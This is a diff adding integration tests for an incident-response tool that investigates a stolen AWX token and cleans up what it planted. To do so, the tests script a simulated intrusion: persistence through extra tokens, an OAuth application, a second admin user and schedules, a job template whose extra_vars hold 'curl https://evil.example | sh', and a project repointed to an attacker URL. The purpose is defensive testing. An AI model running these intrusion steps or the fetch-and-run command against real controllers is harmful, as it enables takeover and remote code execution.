@@ -1,0 +1,253 @@
+import { existsSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { expect, test } from 'vitest';
+import type { Investigation } from '../../../src/domain/investigation/investigation.ts';
+import { homeOf, type PeerHome } from '../home.ts';
+import { describePeer, type Peer } from '../peer.ts';
+
+type As = { readonly user: string } | { readonly token: string };
+
+/** What the intruder planted, as the ids of items, and what it took to plant it. */
+interface Intrusion {
+  readonly token: number;
+  readonly template: number;
+  readonly project: number;
+  readonly planted: readonly string[];
+}
+
+async function call(peer: Peer, as: As, method: string, path: string, body?: object) {
+  const answer = await peer.request(`/api/v2/${path}`, as, { method, ...(body && { body }) });
+  if (answer.status >= 400)
+    throw new Error(`${method} ${path}: ${answer.status} ${answer.text.slice(0, 300)}`);
+  return answer.body as { readonly id: number; readonly token: string; readonly results: { id: number }[] };
+}
+
+const ADMIN = { user: 'admin' };
+
+/** A stolen write token of the superuser `name`, what an intruder does with it, and ordinary work of admin on the same objects. */
+async function intrude(peer: Peer, name: string): Promise<Intrusion> {
+  const admin = (method: string, path: string, body?: object) => call(peer, ADMIN, method, path, body);
+  const [template = 0] = (await admin('GET', 'job_templates/?name=Demo%20Job%20Template')).results.map(
+    ({ id }) => id,
+  );
+  const [project = 0] = (await admin('GET', 'projects/?name=Demo%20Project')).results.map(({ id }) => id);
+  const [organization = 0] = (await admin('GET', 'organizations/?name=Default')).results.map(({ id }) => id);
+  const [inventory = 0] = (await admin('GET', 'inventories/')).results.map(({ id }) => id);
+  await admin('PATCH', `job_templates/${template}/`, { extra_vars: '{"region": "east"}' });
+  await admin('POST', 'users/', { username: name, password: `${name}pw`, is_superuser: true });
+  const stolen = await call(peer, { user: name }, 'POST', 'tokens/', { scope: 'write', description: 'ci' });
+  const intruder = (method: string, path: string, body?: object, as: As = { token: stolen.token }) =>
+    call(peer, as, method, path, body);
+
+  const application = await intruder('POST', 'applications/', {
+    ...{
+      name: `sync of ${name}`,
+      client_type: 'confidential',
+      authorization_grant_type: 'password',
+      organization,
+    },
+  });
+  const ofApplication = await intruder('POST', 'tokens/', { scope: 'write', application: application.id });
+  await admin('PATCH', `projects/${project}/`, { description: 'by admin' });
+  const second = await intruder('POST', 'users/', { username: `${name}2`, password: `${name}2pw` });
+  const { summary_fields: fields } = (await peer.request(`/api/v2/organizations/${organization}/`, ADMIN))
+    .body as {
+    summary_fields: { object_roles: { admin_role: { id: number } } };
+  };
+  const role = fields.object_roles.admin_role.id;
+  await intruder('POST', `users/${second.id}/roles/`, { id: role });
+  const schedule = await intruder('POST', `job_templates/${template}/schedules/`, {
+    ...{ name: `nightly of ${name}`, rrule: 'DTSTART:20300101T000000Z RRULE:FREQ=DAILY;INTERVAL=1' },
+  });
+  await admin('POST', `job_templates/${template}/schedules/`, {
+    ...{ name: `of admin beside ${name}`, rrule: 'DTSTART:20300101T000000Z RRULE:FREQ=DAILY;INTERVAL=1' },
+  });
+  await intruder('PATCH', `job_templates/${template}/`, { webhook_service: 'github' });
+  await intruder('PATCH', `job_templates/${template}/`, {
+    ...{
+      extra_vars: '{"cmd": "curl https://evil.example | sh"}',
+      limit: 'all',
+      become_enabled: true,
+      host_config_key: 'stolen-key',
+    },
+  });
+  await intruder('PATCH', `projects/${project}/`, { scm_url: 'https://evil.example/x.git' });
+  const job = await intruder('POST', `job_templates/${template}/launch/`, {});
+  // The second user goes on with a token of its own.
+  const third = await intruder('POST', 'tokens/', { scope: 'write' }, { user: `${name}2` });
+  const host = await intruder(
+    'POST',
+    'hosts/',
+    { name: `host of ${name}`, inventory },
+    { token: third.token },
+  );
+  await admin('PATCH', `job_templates/${template}/`, { limit: 'web', description: 'by admin' });
+  await admin('POST', 'tokens/', { scope: 'read', description: 'of admin' });
+
+  return {
+    ...{ token: stolen.id, template, project },
+    planted: [
+      ...[stolen.id, ofApplication.id, third.id].map((id) => `o_auth2_access_token:${id}`),
+      ...[`o_auth2_application:${application.id}`, `user:${second.id}`, `role:${role}:user:${second.id}`],
+      ...[
+        `schedule:${schedule.id}`,
+        `job_template:${template}`,
+        `project:${project}`,
+        `job:${job.id}`,
+        `host:${host.id}`,
+      ],
+    ],
+  };
+}
+
+async function investigation(home: PeerHome, ...args: string[]): Promise<Investigation> {
+  return (await home.json<Investigation>('incident', 'investigate', ...args)).body;
+}
+
+/** What remains; an update that the changed project caused is the controller's. */
+function remaining({ items }: Investigation): string[] {
+  return items
+    .filter(({ state, group }) => group !== 'other' && ['there', 'running', 'unknown'].includes(state))
+    .map(({ id }) => id)
+    .sort();
+}
+
+async function template(peer: Peer, id: number): Promise<Readonly<Record<string, unknown>>> {
+  const [row = {}] = await peer.sql(
+    `SELECT j.extra_vars, j."limit", j.become_enabled, j.host_config_key, j.webhook_service, j.webhook_key, t.description
+     FROM main_jobtemplate j JOIN main_unifiedjobtemplate t ON t.id = j.unifiedjobtemplate_ptr_id WHERE t.id = $1`,
+    [id],
+  );
+  return row;
+}
+
+/** As admin left it: the limit and the description are its own. */
+const BY_ADMIN = {
+  extra_vars: '{"region": "east"}',
+  limit: 'web',
+  become_enabled: false,
+  host_config_key: '',
+  webhook_service: '',
+  webhook_key: '',
+  description: 'by admin',
+};
+
+describePeer('awx', 'an investigation', (peer) => {
+  test('finds what was planted and nothing of others, over REST and in the database; cleaning ends it', async () => {
+    const home = homeOf(peer());
+    const { token, template: templateId, project, planted } = await intrude(peer(), 'ivy');
+    const saved = join(home.folder, 'investigation.json');
+    const rest = await investigation(home, '--token', String(token), '--out', saved);
+    const database = await investigation(home, '--token', String(token), '--context', 'db');
+    const [updates, found] = [/^project_update:/, remaining(rest)].map((each) =>
+      each instanceof RegExp
+        ? remaining(rest).filter((id) => each.test(id))
+        : each.filter((id) => !id.startsWith('project_update:')),
+    );
+    expect(found).toEqual([...planted].sort());
+    expect(remaining(database)).toEqual(remaining(rest));
+    expect(updates).toHaveLength(1);
+    expect(rest.chain.map(({ user }) => user.username)).toEqual(['ivy', 'ivy2']);
+    const changed = (result: Investigation) =>
+      result.items.find(({ id }) => id === `job_template:${templateId}`);
+    for (const result of [rest, database]) {
+      expect(changed(result)).toMatchObject({
+        risk: 'high',
+        changes: expect.arrayContaining([
+          expect.objectContaining({ field: 'extra_vars', before: { region: 'east' }, state: 'as_left' }),
+          expect.objectContaining({ field: 'limit', before: '', after: 'all', now: 'web', state: 'changed' }),
+        ]),
+        changedSince: expect.arrayContaining([
+          expect.objectContaining({ by: expect.objectContaining({ username: 'admin' }) }),
+        ]),
+      });
+      expect(JSON.stringify(result)).not.toContain('stolen-key');
+    }
+    // What the activity stream of this version does not record is said.
+    expect(rest.limits.map(({ limit }) => limit)).toEqual(
+      expect.arrayContaining(['not_recorded', 'token_unknown', 'not_listed']),
+    );
+
+    const dry = await home.json('incident', 'clean', '--from', saved, '--dry-run');
+    expect(dry).toMatchObject({ code: 0, body: { dryRun: true, result: null } });
+    const cleaned = await home.json<{ left: unknown }>('incident', 'clean', '--from', saved, '--yes');
+    expect(cleaned).toMatchObject({ code: 0, body: { result: 'done', left: [] } });
+    expect(await template(peer(), templateId)).toEqual(BY_ADMIN);
+    const [{ scm_url: url, description } = {}] = await peer().sql(
+      `SELECT p.scm_url, t.description FROM main_project p JOIN main_unifiedjobtemplate t
+       ON t.id = p.unifiedjobtemplate_ptr_id WHERE t.id = $1`,
+      [project],
+    );
+    expect({ url, description }).toEqual({
+      url: 'https://github.com/ansible/ansible-tower-samples',
+      description: 'by admin',
+    });
+    const schedules = await peer().sql("SELECT name FROM main_schedule WHERE name LIKE '%ivy%'");
+    expect(schedules).toEqual([{ name: 'of admin beside ivy' }]);
+    expect(
+      (await peer().sql("SELECT FROM main_oauth2accesstoken WHERE description = 'of admin'")).length,
+    ).toBe(1);
+
+    for (const context of ['rest', 'db']) {
+      expect(remaining(await investigation(home, '--user', 'ivy', '--context', context))).toEqual([]);
+    }
+    const again = await home.json('incident', 'clean', '--from', saved, '--yes');
+    expect(again).toMatchObject({ code: 0, body: { plan: { clean: [] }, result: null } });
+  }, 600_000);
+
+  test('is finished by the next cleaning where the first one was killed', async () => {
+    const home = homeOf(peer());
+    const { token, template: templateId } = await intrude(peer(), 'kim');
+    const saved = join(home.folder, 'investigation.json');
+    await investigation(home, '--token', String(token), '--out', saved);
+    const first = home.start('incident', 'clean', '--from', saved, '--yes');
+    const log = join(home.folder, '.local/state/tokenctl/audit.jsonl');
+    const lines = () => (existsSync(log) ? readFileSync(log, 'utf8').trim().split('\n') : []);
+    await expect.poll(() => lines().length, { timeout: 120_000, interval: 20 }).toBeGreaterThan(5);
+    first.kill('SIGKILL');
+    await first.ended;
+    const left = remaining(await investigation(home, '--token', String(token)));
+    expect(left.length).toBeGreaterThan(0);
+    const second = await home.json('incident', 'clean', '--from', saved, '--yes');
+    expect(second).toMatchObject({ code: 0, body: { result: 'done', left: [] } });
+    expect(remaining(await investigation(home, '--token', String(token)))).toEqual([]);
+    expect(await template(peer(), templateId)).toMatchObject({
+      extra_vars: BY_ADMIN.extra_vars,
+      webhook_key: '',
+    });
+    const { code } = await home.run('log', 'verify');
+    expect(code).toBe(0);
+    const entries = lines().map((line) => JSON.parse(line) as { kind: string; seq: number; closes?: number });
+    const closed = new Set(entries.map(({ closes }) => closes));
+    expect(entries.filter(({ kind, seq }) => kind === 'intent' && !closed.has(seq))).toEqual([]);
+  }, 600_000);
+
+  test('in the database ends tokens, applications and users; the rest takes the REST API', async () => {
+    const home = homeOf(peer());
+    const { token, planted } = await intrude(peer(), 'lea');
+    const before = await investigation(home, '--token', String(token), '--context', 'db');
+    const saved = join(home.folder, 'investigation.json');
+    await investigation(home, '--token', String(token), '--context', 'db', '--out', saved);
+    expect(remaining(before)).toEqual(expect.arrayContaining([...planted]));
+    const cleaned = await home.json('incident', 'clean', '--from', saved, '--context', 'db', '--yes');
+    expect(cleaned).toMatchObject({ code: 5, body: { result: 'done', left: [] } });
+    const left = remaining(await investigation(home, '--user', 'lea', '--context', 'db'));
+    expect(left.filter((id) => /^(o_auth2|user:)/.test(id))).toEqual([]);
+    expect(left).toEqual(
+      expect.arrayContaining(planted.filter((id) => /^(schedule|role|project|job_template):/.test(id))),
+    );
+    // A file of the database is cleaned over REST as well: it is the same controller.
+    expect(await home.json('incident', 'clean', '--from', saved, '--yes')).toMatchObject({
+      code: 0,
+      body: { left: [] },
+    });
+    expect(remaining(await investigation(home, '--user', 'lea', '--context', 'db'))).toEqual([]);
+  }, 600_000);
+
+  test('a role of the database that may not read all tables is told the grant', async () => {
+    const url = await peer().role('investigator', ['GRANT SELECT ON auth_user TO ROLE']);
+    const home = homeOf(peer(), { database: url });
+    const refused = await home.run('incident', 'investigate', '--user', 'bob', '--context', 'db');
+    expect(refused).toMatchObject({ code: 4, stderr: expect.stringContaining('GRANT SELECT') });
+  }, 120_000);
+});
